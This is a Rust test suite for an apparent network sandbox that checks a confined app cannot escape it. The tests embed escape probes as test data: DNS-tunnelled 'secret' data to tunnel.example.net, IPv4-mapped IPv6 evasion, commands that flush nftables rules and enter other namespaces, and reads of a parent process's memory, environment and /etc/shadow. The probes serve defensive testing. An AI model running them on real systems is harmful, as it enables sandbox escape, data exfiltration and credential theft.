//! An app that tries to get out. Each try fails fast and is recorded. In
//! the control run the same probe does get out, where the kernel lets it
//! be tried at all.

use std::io::ErrorKind;

use odyn_tests::{Guest, serve};

use crate::{program, shop, start};

#[test]
fn dns_to_another_server_is_answered_by_ours() {
    let world = start!(shop());
    let udp = world.internet().udp("8.8.8.8:53");
    let tcp = world.internet().listen("8.8.8.8:53");
    for transport in ["+notcp", "+tcp"] {
        let words = [
            "dig",
            "+tries=1",
            "+time=3",
            transport,
            "@8.8.8.8",
            "v4.shop.example",
            "A",
        ];
        let out = world.guest(&words);
        if world.direct() {
            continue;
        }
        assert!(out.ok().contains("ANSWER: 1"), "{}", out.describe());
        let words = [
            "dig",
            "+tries=1",
            "+time=3",
            transport,
            "@8.8.8.8",
            "evil.example.net",
            "A",
        ];
        let out = world.guest(&words);
        assert!(out.ok().contains("ANSWER: 0"), "{}", out.describe());
        out.dns_denied("evil.example.net", "no-rule");
    }
    udp.set_nonblocking(true).expect("a socket");
    tcp.set_nonblocking(true).expect("a socket");
    let reached = (udp.recv(&mut [0; 512]).is_ok(), tcp.accept().is_ok());
    assert_eq!(reached, (world.direct(), world.direct()));
}

#[test]
fn data_in_a_denied_name_never_crosses() {
    let world = start!(shop());
    let out = Guest::sh(
        "for n in 1 2 3 4 5; do \
           dig +tries=1 +time=3 c2VjcmV0-$n.tunnel.example.net TXT; \
           dig +tries=1 +time=3 c2VjcmV0-$n.api.shop.example A; \
           dig +tries=1 +time=3 +tcp c2VjcmV0-$n.example.net NULL; \
         done; dig +tries=1 +time=3 v4.shop.example A",
    )
    .run(&world);
    out.ok();
    let log = world.dns_log();
    assert!(log.contains("v4.shop.example"), "the log is empty:\n{log}");
    assert_eq!(
        log.to_ascii_lowercase().contains("c2vjcmv0"),
        world.direct(),
        "{log}"
    );
    if !world.direct() {
        let denied = out
            .audit
            .iter()
            .filter(|record| record.verdict == "deny")
            .count();
        assert_eq!(denied, 15, "{}", out.describe());
    }
}

#[test]
fn ipv4_in_ipv6_clothes_is_ipv4() {
    let world = start!(shop());
    serve::banner(world.internet().listen("203.0.113.66:7000"), "evil");
    serve::banner(world.internet().listen("203.0.113.20:7000"), "fine");
    serve::udp_echo(world.internet().udp("203.0.113.66:7001"));
    let words = [
        "tcp",
        "::ffff:203.0.113.66",
        "7000",
        "::ffff:203.0.113.20",
        "7000",
    ];
    let tcp = world.python(program!("connect"), &words);
    let udp = world.python(program!("connect"), &["udp", "::ffff:203.0.113.66", "7001"]);
    if world.direct() {
        assert_eq!(tcp.ok(), "ok evil\nok fine\n");
        assert_eq!(udp.ok(), "ok ping\n");
        return;
    }
    let lines: Vec<&str> = tcp.ok().lines().collect();
    assert!(lines[0].starts_with("failed E"), "{}", tcp.describe());
    assert_eq!(lines[1], "ok fine", "{}", tcp.describe());
    tcp.denied("tcp", "203.0.113.66", 7000, "no-rule");
    tcp.allowed("tcp", "203.0.113.20", 7000, "203.0.113.20");
    assert!(udp.ok().starts_with("failed E"), "{}", udp.describe());
    udp.denied("udp", "203.0.113.66", 7001, "no-rule");
}

#[test]
fn an_address_learnt_elsewhere_is_not_its_name() {
    let world = start!(shop());
    serve::banner(world.internet().listen("203.0.113.11:7000"), "hello");
    let words = ["tcp", "v4.shop.example", "7000", "203.0.113.11", "7000"];
    let out = world.python(program!("connect"), &words);
    if world.direct() {
        assert_eq!(out.ok(), "ok hello\nok hello\n");
        return;
    }
    let lines: Vec<&str> = out.ok().lines().collect();
    assert_eq!(lines[0], "ok hello");
    assert!(lines[1].starts_with("failed E"), "{}", out.describe());
    out.denied("tcp", "203.0.113.11", 7000, "no-rule");
}

#[test]
fn a_guessed_synthetic_address_leads_nowhere() {
    let world = start!(shop());
    let listener = world.internet().listen("198.18.200.200:7000");
    if world.direct() {
        return;
    }
    let words = [
        "tcp",
        "198.18.200.200",
        "7000",
        "198.19.255.254",
        "7000",
        "fd6f:6479:6e00::dead",
        "7000",
    ];
    let out = world.python(program!("connect"), &words);
    assert_eq!(
        out.ok().matches("failed E").count(),
        3,
        "{}",
        out.describe()
    );
    out.denied("tcp", "fd6f:6479:6e00::dead", 7000, "unknown-synthetic");
    out.denied("tcp", "198.18.200.200", 7000, "unknown-synthetic");
    out.denied("tcp", "198.19.255.254", 7000, "unknown-synthetic");
    listener.set_nonblocking(true).expect("a socket");
    assert_eq!(
        listener.accept().map(drop).map_err(|e| e.kind()),
        Err(ErrorKind::WouldBlock)
    );
}

#[test]
fn other_name_services_by_port_are_plain_flows() {
    let world = start!(shop());
    serve::banner(world.internet().listen("8.8.8.8:853"), "dot");
    serve::banner(world.internet().listen("8.8.8.8:443"), "doh");
    serve::udp_echo(world.internet().udp("8.8.8.8:5353"));
    let tcp = world.python(
        program!("connect"),
        &["tcp", "8.8.8.8", "853", "8.8.8.8", "443"],
    );
    let udp = world.python(program!("connect"), &["udp", "8.8.8.8", "5353"]);
    if world.direct() {
        assert_eq!((tcp.ok(), udp.ok()), ("ok dot\nok doh\n", "ok ping\n"));
        return;
    }
    assert_eq!(
        tcp.ok().matches("failed E").count(),
        2,
        "{}",
        tcp.describe()
    );
    tcp.denied("tcp", "8.8.8.8", 853, "no-rule");
    tcp.denied("tcp", "8.8.8.8", 443, "no-rule");
    assert!(udp.ok().starts_with("failed E"), "{}", udp.describe());
    udp.denied("udp", "8.8.8.8", 5353, "no-rule");
}

#[test]
fn our_own_ports_are_no_way_out() {
    let world = start!(shop());
    if world.direct() {
        return;
    }
    serve::banner(world.internet().listen("203.0.113.11:7000"), "hello");
    // Every socket that listens in the guest is odyn-net's.
    let source = r#"
import socket, sys
def ports(name, state):
    with open("/proc/net/" + name) as f:
        rows = [line.split() for line in f][1:]
    return sorted({int(row[1].rsplit(":", 1)[1], 16) for row in rows if row[3] == state})
def attempt(kind, host, port):
    try:
        with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind) as s:
            s.settimeout(8)
            s.connect((host, port))
            s.send(b"GET / HTTP/1.0\r\n\r\n")
            return s.recv(100)
    except TimeoutError:
        return b"timeout"
    except OSError as error:
        return error.errno
tcp = sorted({*ports("tcp", "0A"), *ports("tcp6", "0A")})
udp = sorted({*ports("udp", "07"), *ports("udp6", "07")})
print("listening", len(tcp), len(udp))
for host in ("127.0.0.1", "::1", "::ffff:127.0.0.1"):
    for port in tcp: print("tcp", host, port, attempt(socket.SOCK_STREAM, host, port))
with socket.create_connection(("v4.shop.example", 7000), timeout=10) as s:
    print("after", s.recv(10))
"#;
    let out = world.python(source, &[]);
    assert!(
        out.ok().ends_with("after b'hello\\n'\n"),
        "{}",
        out.describe()
    );
    assert!(
        !out.stdout.contains("listening 0 "),
        "the probe saw no port\n{}",
        out.describe()
    );
    for line in out.stdout.lines().filter(|line| line.starts_with("tcp ")) {
        assert!(!line.contains("timeout"), "{line}\n{}", out.describe());
    }
    let allowed: Vec<_> = out
        .audit
        .iter()
        .filter(|record| record.protocol == "tcp" && record.verdict == "allow")
        .collect();
    assert_eq!(allowed.len(), 1, "{}", out.describe());
}

#[test]
fn the_apps_user_cannot_change_the_rules() {
    let world = start!(shop());
    serve::banner(world.internet().listen("203.0.113.66:7000"), "evil");
    let script = format!(
        r#"try() {{ if "$@" >/dev/null 2>&1; then echo "worked: $*"; fi; }}
try nft flush ruleset
try nft list ruleset
try nft delete table inet odyn
try ip link set lo down
try ip link add dummy0 type dummy
try ip address add 192.0.2.99/24 dev lo
try ip route add default dev lo
try ip route flush table 100
try ip rule add pref 1 lookup main
try unshare --user --map-root-user nft flush ruleset
try nsenter --net=/proc/1/ns/net true
try sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward'
exec python3 -c '{}' tcp 203.0.113.66 7000"#,
        program!("connect").replace('\'', "'\\''")
    );
    let out = Guest::sh(&script).run(&world);
    if world.direct() {
        assert_eq!(out.ok(), "ok evil\n");
        return;
    }
    assert!(out.ok().starts_with("failed E"), "{}", out.describe());
    out.denied("tcp", "203.0.113.66", 7000, "no-rule");
}

#[test]
fn a_namespace_of_the_apps_own_has_no_network() {
    let world = start!(shop());
    serve::banner(world.internet().listen("203.0.113.66:7000"), "evil");
    if world.direct() {
        return;
    }
    let out = Guest::new(&[
        "unshare",
        "--user",
        "--map-root-user",
        "--net",
        "python3",
        "-c",
        program!("connect"),
        "tcp",
        "203.0.113.66",
        "7000",
    ])
    .run(&world);
    assert!(!out.stdout.contains("ok"), "{}", out.describe());
}

#[test]
fn the_app_cannot_take_the_link() {
    let world = start!(shop());
    if world.direct() {
        return;
    }
    let source = r#"
import socket, sys
def say(what, work):
    try:
        work()
        print(what, "worked")
    except OSError as error:
        print(what, "failed", error.errno)
def unix(): socket.socket(socket.AF_UNIX).connect(sys.argv[1])
def vsock(): socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
say("unix", unix)
say("vsock", vsock)
"#;
    let link = world.link_url();
    let path = link.strip_prefix("unix://").expect("a path");
    let out = world.python(source, &[path]);
    assert!(!out.ok().contains("worked"), "{}", out.describe());
}

#[test]
fn the_app_cannot_read_the_proxy() {
    let world = start!(shop());
    if world.direct() {
        return;
    }
    let source = r#"
import os
me = os.getpid()
parent = os.getppid()
for what in ("mem", "environ", "maps", "root/etc/shadow", "fd"):
    path = f"/proc/{parent}/{what}"
    try:
        if what == "fd": os.listdir(path)
        else: open(path, "rb").read(1)
        print("opened", path)
    except OSError:
        pass
try:
    os.kill(parent, 9)
    print("killed", parent)
except OSError:
    pass
print("fds", sorted(int(fd) for fd in os.listdir("/proc/self/fd"))[:-1])
"#;
    let out = world.python(source, &[]);
    // Nothing of the proxy's is inherited either.
    assert_eq!(out.ok(), "fds [0, 1, 2]\n", "{}", out.describe());
}
